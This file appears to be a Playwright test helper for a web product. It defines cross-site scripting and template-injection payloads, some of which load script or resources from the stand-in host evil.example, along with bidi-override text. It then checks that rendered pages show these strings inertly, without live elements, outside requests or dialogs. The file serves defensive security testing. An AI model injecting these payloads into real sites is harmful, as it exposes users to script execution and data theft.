// What an attacker writes where people write, and what is watched while pages show it.

import type { BrowserContext, Page } from "@playwright/test";
import { baseURL } from "./client";
import { expect } from "./test";

/** evil is a host that no page may ask for anything. */
export const evil = "evil.example";

/** short fits where a name does; it comes alive wherever a text becomes markup. */
export const short = `"'><img src=//${evil}/i onerror=alert(1)><svg onload=alert(1)>{{7*7}}`;

/** long has more: scripts, links, frames, styles, templates, signs that turn the reading order, and a word without end. */
export const long = [
  `<script>alert(1)</script><script src="https://${evil}/s.js"></script>`,
  `<iframe src="javascript:alert(1)"></iframe><object data="//${evil}/o"></object><style>@import "//${evil}/c"; * { display: none }</style>`,
  `<a href="javascript:alert(1)">x</a> [x](javascript:alert(1)) ![x](https://${evil}/p.png) https://${evil}/ javascript:alert(1)`,
  "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %> #{7*7} &lt;b&gt; &#60;b&#62; </textarea></title></main>",
  "\u202Eksunnak\u202C \u2066eristetty \uFF1Cscript\uFF1E \u200B\uFEFF a\u0300\u0301\u0302\u0303\u0304\u0305 \u202Eauki jää",
  `${short} ${"W".repeat(400)}`,
].join("\n");

/** Watched is what the browser did that it should not have. */
export interface Watched {
  readonly acts: string[];
}

/** watch looks at a browser of an attacked person: dialogs, windows, downloads, and requests to anywhere but the product. */
export function watch(context: BrowserContext, own = baseURL()): Watched {
  const acts: string[] = [];
  context.on("request", (r) => {
    if (!r.url().startsWith(own) && !r.url().startsWith("data:")) acts.push(`request: ${r.method()} ${r.url()}`);
  });
  context.on("dialog", (d) => {
    acts.push(`dialog: ${d.message()}`);
    void d.dismiss();
  });
  const follow = (page: Page) => {
    page.on("download", (d) => acts.push(`download: ${d.url()}`));
    page.on("popup", (p) => acts.push(`window: ${p.url()}`));
  };
  context.pages().forEach(follow);
  return { acts };
}

/** written answers what a person reads of a text: breaks and spaces are layout. */
const written = (text: string) => text.replaceAll(/\s+/g, " ").trim();

/** shown answers all that the page shows, with what stands in its fields, also what is folded away. */
async function shown(page: Page): Promise<string> {
  return page.evaluate(() => {
    const fields = Array.from(document.querySelectorAll<HTMLInputElement | HTMLTextAreaElement>("input, textarea"), (f) => f.value);
    return [document.body.textContent, ...fields].join("\n");
  });
}

/** holds fails unless the page shows the texts as they were written, keeps within the screen, and none of them turns what stands beside it. */
export async function holds(page: Page, name: string, texts: readonly string[]): Promise<void> {
  for (const text of texts) {
    await expect.poll(async () => written(await shown(page)).includes(written(text)), { message: `${name} shows ${text.slice(0, 40)}` }).toBe(true);
  }
  const found = await page.evaluate(() => {
    const root = document.documentElement;
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    const turned: string[] = [];
    const inline = (n: Node | null) => n instanceof Text || (n instanceof Element && getComputedStyle(n).display.startsWith("inline"));
    while (walker.nextNode()) {
      let run: Node = walker.currentNode;
      if (!run.textContent?.includes("\u202E")) continue;
      while (run.parentElement && inline(run.parentElement) && !/isolate|plaintext/.test(getComputedStyle(run.parentElement).unicodeBidi)) run = run.parentElement;
      const isolated = run.parentElement && inline(run.parentElement);
      const beside = isolated ? [] : [run.previousSibling, run.nextSibling].filter((n) => inline(n) && n?.textContent?.trim());
      turned.push(...beside.map((n) => n?.textContent?.slice(0, 80) ?? ""));
    }
    const alive = document.querySelectorAll(`[onerror], [onload], [src*="evil"], [href*="evil"], [href^="javascript"], main script, main style, iframe, object`);
    return { turned, alive: Array.from(alive, (e) => e.outerHTML.slice(0, 120)), beyond: root.scrollWidth - root.clientWidth };
  });
  expect.soft(found.turned, `${name}: what a text turns that is not its own`).toEqual([]);
  expect.soft(found.alive, `${name}: elements made of a text`).toEqual([]);
  expect.soft(found.beyond, `${name}: pixels beyond the screen`).toBeLessThanOrEqual(0);
}
